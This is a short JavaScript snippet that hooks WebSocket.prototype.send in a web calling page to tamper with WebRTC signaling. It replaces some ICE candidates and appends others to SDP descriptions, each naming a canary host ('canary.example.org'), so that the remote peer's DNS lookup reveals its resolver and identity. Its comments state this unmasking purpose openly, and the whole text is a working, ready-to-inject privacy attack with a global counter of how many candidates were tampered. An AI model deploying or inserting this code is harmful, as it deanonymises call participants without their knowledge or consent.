// Runs in a page before everything else: makes of its client one that names hosts of its own choice to the other side, in
// candidates and in descriptions. Whoever looks them up shows his resolver, and with it himself.
(() => {
  const NAME = "canary.example.org";
  const line = (number) => `candidate:${number} 1 udp 41885439 ${NAME} 4${number % 1_000} typ relay raddr 0.0.0.0 rport 0`;
  const { send } = WebSocket.prototype;
  let told = 0;
  WebSocket.prototype.send = function (text) {
    const frame = typeof text === "string" && text.startsWith("{") ? JSON.parse(text) : undefined;
    if (frame?.t === "call.ice" && frame.p?.candidate) {
      told += 1;
      // The others lead to this page: the call is to come about.
      if (told % 3 === 0) frame.p.candidate = line(told);
    }
    if (frame?.t === "call.media") frame.p.sdp = frame.p.sdp.replace(/^(a=ice-ufrag:.*)$/gm, `$1\r\na=${line((told += 1))}`).replaceAll("\r\r", "\r");
    return send.call(this, frame ? JSON.stringify(frame) : text);
  };
  globalThis[Symbol.for("tampered")] = () => told;
})();
